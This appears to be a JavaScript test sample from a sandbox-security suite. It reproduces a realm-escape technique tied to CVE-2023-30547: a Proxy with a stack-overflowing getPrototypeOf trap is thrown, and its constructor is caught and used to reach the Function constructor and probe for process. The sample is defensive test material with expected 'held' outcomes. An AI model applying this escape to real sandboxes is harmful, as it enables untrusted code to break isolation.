/*---
id: re-sanitizer-throw-01-proxy-overflow
description: "Throws a Proxy whose getPrototypeOf trap overflows the stack and catches it with catch({constructor:c}) (CVE-2023-30547), so a sanitizer that inspects the thrown value fails open."
kind: malicious
category: realm-escape
technique: RE-sanitizer-throw
variant: plain
references:
  - "CVE-2023-30547"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
---*/
const handler = { getPrototypeOf() { (function overflow() { new Error().stack; overflow(); })(); } };
const thrown = new Proxy({}, handler);
try { throw thrown; } catch ({ constructor: c }) {
  try {
    if (c.constructor('return typeof process')() !== 'undefined') return 'ESCAPED';
  } catch (e) { /* refused */ }
}
return 'held';
